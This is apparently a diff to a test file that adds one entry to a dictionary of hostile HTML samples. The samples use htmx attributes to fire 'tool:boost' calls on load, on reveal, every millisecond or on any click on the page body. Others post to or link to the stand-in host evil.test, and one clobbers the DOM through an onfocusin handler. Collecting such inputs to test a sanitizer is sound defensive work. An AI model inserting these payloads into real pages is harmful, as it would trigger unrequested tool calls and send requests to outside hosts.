@@ -19,6 +19,7 @@ HOSTILE = {
     "another call on load": '<b data-hx-post="tool:boost" data-hx-trigger="load"></b>',
     "a call when seen": '<b hx-post="tool:boost" hx-trigger="revealed"></b>',
     "a call again and again": '<b hx-get="tool:boost" hx-trigger="every 1ms"></b>',
+    "a call by another element": '<b hx-post="tool:boost" hx-trigger="click from:body"></b><i id="trap">x</i>',
     "a network address": '<b hx-post="https://evil.test/" id="trap">x</b><b hx-get="/x" hx-trigger="load"></b>',
     "a boosted link": '<a hx-boost="true" href="https://evil.test/" id="trap2">x</a>',
     "a form that clobbers": '<form onfocusin="window.hacked = 1"><input name="getAttributeNames"></form>',
